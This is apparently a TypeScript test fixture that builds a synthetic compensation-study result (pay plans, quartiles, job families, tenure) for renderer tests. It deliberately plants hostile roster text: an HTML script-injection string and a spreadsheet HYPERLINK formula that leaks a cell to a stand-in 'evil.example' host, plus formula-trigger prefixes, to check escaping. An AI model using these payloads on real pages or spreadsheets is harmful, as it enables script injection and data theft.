/**
 * A hand-made StudyResult shaped like the analysis' output (two plans, one hourly, one
 * annual; every exhibit), with hostile roster text in it, for the renderer tests.
 */
import type { Exhibit, StudyResult } from "../../src/exhibits/spec/types";

/** The exhibits below before the registry adds their subtitle. */
type Draft = Omit<Exhibit, "subtitle">;

export const FIXTURE_SUBTITLE = "As of 2013-04-01 · Pay Plans: plans.csv · Roster: roster.csv";

export const HOSTILE_TITLE = "<img src=x onerror=alert(1)>";
export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
export const HOSTILE_TEXTS = [FORMULA_TITLE, "+SUM(1,2)", "-2+3", "@cmd", "\tTabbed", "\rReturn", HOSTILE_TITLE];

const summaryExhibit: Draft = {
  id: "pay-plan-summary",
  number: "3-1",
  title: "Pay Plan Summary",
  columns: [
    { name: "Plan", kind: "text" },
    { name: "Grade", kind: "text" },
    { name: "Minimum", kind: "money" },
    { name: "Midpoint", kind: "money" },
    { name: "Maximum", kind: "money" },
    { name: "Steps", kind: "count" },
    { name: "Average Step Progression", kind: "percent" },
    { name: "Range Spread", kind: "percent" },
    { name: "Employees", kind: "count" },
  ],
  rows: [
    { values: ["BASE Shift 1", "B1-5", 12.12, 13.925, 15.73, 7, 0.0447, 0.2979, 22], kind: "detail", unit: "hourly" },
    { values: ["BASE Shift 1", "B1-6", 12.72, 14.6, 16.48, 7, 0.0441, 0.2956, 8], kind: "detail", unit: "hourly" },
    { values: ["BASE Shift 1", "Total", null, null, null, null, null, null, 30], kind: "total", unit: "hourly" },
    { values: ["PAA", "A1", 61040, 70510.5, 79981, 9, 0.0334, 0.3103, 5], kind: "detail", unit: "annual" },
    { values: ["PAA", "Total", null, null, null, null, null, null, 5], kind: "total", unit: "annual" },
    { values: ["All", "Total", null, null, null, null, null, null, 35], kind: "grand-total" },
  ],
  source: "Source: Pay Plans; CompStudy analysis.",
  stepBlocks: [
    {
      plan: "BASE Shift 1",
      unit: "hourly",
      stepHeaders: ["Step 1", "Step 2", "Step 3"],
      rows: [
        { grade: "B1-5", steps: [12.12, 12.66, 13.2] },
        { grade: "B1-6", steps: [12.72, 13.28, null] },
      ],
    },
    { plan: "PAA", unit: "annual", stepHeaders: ["Step 1", "Step 2"], rows: [{ grade: "A1", steps: [61040, 63100] }] },
  ],
};

const quartiles: Draft = {
  id: "quartiles",
  number: "3-4",
  title: "Quartile Analysis",
  columns: [
    { name: "Plan", kind: "text" },
    { name: "Grade", kind: "text" },
    { name: "Employees", kind: "count" },
    { name: "Q1", kind: "count" },
    { name: "Q2", kind: "count" },
    { name: "Q3", kind: "count" },
    { name: "Q4", kind: "count" },
    { name: "% Q1", kind: "percent" },
    { name: "% Q2", kind: "percent" },
    { name: "% Q3", kind: "percent" },
    { name: "% Q4", kind: "percent" },
  ],
  rows: [
    { values: ["BASE Shift 1", "B1-5", 22, 10, 5, 4, 3, 10 / 22, 5 / 22, 4 / 22, 3 / 22], kind: "detail" },
    { values: ["BASE Shift 1", "B1-6", 8, 0, 2, 2, 4, 0, 0.25, 0.25, 0.5], kind: "detail" },
    { values: ["BASE Shift 1", "Total", 30, 10, 7, 6, 7, 1 / 3, 7 / 30, 0.2, 7 / 30], kind: "total" },
    { values: ["All", "Total", 30, 10, 7, 6, 7, 1 / 3, 7 / 30, 0.2, 7 / 30], kind: "grand-total" },
  ],
  source: "Source: Roster; CompStudy analysis.",
  charts: [
    {
      kind: "stacked100",
      title: "BASE Shift 1 — employees by quartile",
      description: "For each grade of BASE Shift 1, the share of its employees in each quarter of the grade's range.",
      categoryTitle: "Grade",
      categories: ["B1-5", "B1-6"],
      series: [
        { name: "Q1", values: [10 / 22, 0] },
        { name: "Q2", values: [5 / 22, 0.25] },
        { name: "Q3", values: [4 / 22, 0.25] },
        { name: "Q4", values: [3 / 22, 0.5] },
      ],
      value: { kind: "percent" },
      valueTitle: "Share of the grade's employees",
    },
  ],
};

const families: Draft = {
  id: "job-families",
  number: "3-5",
  title: "Job Families",
  columns: [
    { name: "Job Family", kind: "text" },
    { name: "Employees", kind: "count" },
    { name: "Classes", kind: "count" },
    { name: "% of Total", kind: "percent" },
  ],
  rows: [
    { values: [HOSTILE_TITLE, 20, 2, 20 / 35], kind: "detail" },
    { values: [FORMULA_TITLE, 10, 1, 10 / 35], kind: "detail" },
    { values: ["Custodial & <Maintenance>", 5, 1, 5 / 35], kind: "detail" },
    { values: ["Total", 35, 4, 1], kind: "grand-total" },
  ],
  source: "Source: Roster.",
};

const tenure: Draft = {
  id: "tenure",
  number: "3-6",
  title: "Average Tenure",
  columns: [
    { name: "Plan", kind: "text" },
    { name: "Grade", kind: "text" },
    { name: "Employees", kind: "count" },
    { name: "Average Tenure", kind: "years" },
  ],
  rows: [
    { values: ["BASE Shift 1", "B1-5", 22, 7.3456], kind: "detail" },
    { values: ["BASE Shift 1", "Average", 30, 6.25], kind: "total" },
    { values: ["All", "Average", 30, 6.25], kind: "grand-total" },
  ],
  source: "Source: Roster (hire dates).",
};

const audit: Draft = {
  id: "schedule-audit",
  number: "3-7",
  title: "Schedule Audit",
  columns: [
    { name: "Plan", kind: "text" },
    { name: "Grade", kind: "text" },
    { name: "Step", kind: "text" },
    { name: "Severity", kind: "text" },
    { name: "Message", kind: "text" },
  ],
  rows: [],
  source: "Source: Pay Plans.",
};

const unmatched: Draft = {
  id: "unmatched-employees",
  number: "3-8",
  title: "Unmatched Employees",
  columns: [
    { name: "Employee ID", kind: "text" },
    { name: "Plan", kind: "text" },
    { name: "Grade", kind: "text" },
    { name: "Reason", kind: "text" },
  ],
  rows: HOSTILE_TEXTS.map((text, index) => ({
    values: [`E${index + 1}`, "BASE Shift 1", text, "unknown grade"],
    kind: "detail" as const,
  })),
  source: "Source: Roster.",
};

/** A fresh copy each call: tests may change it. */
export function studyFixture(): StudyResult {
  return structuredClone({
    asOf: "2013-04-01",
    title: "Compensation study: current conditions",
    sources: { plans: "plans.csv", roster: "roster.csv" },
    exhibits: [summaryExhibit, quartiles, families, tenure, audit, unmatched].map((draft) => ({
      ...draft,
      subtitle: FIXTURE_SUBTITLE,
    })),
    summary: {
      plans: 2,
      grades: 3,
      rosterRows: 42,
      employees: 35,
      unmatched: 7,
      separated: 0,
      auditErrors: 0,
      auditWarnings: 0,
      notes: [],
      columns: { plans: { Plan: "Plan", Grade: "Grade" }, roster: { "Employee ID": "Employee ID", Salary: "Salary" } },
    },
  } satisfies StudyResult);
}
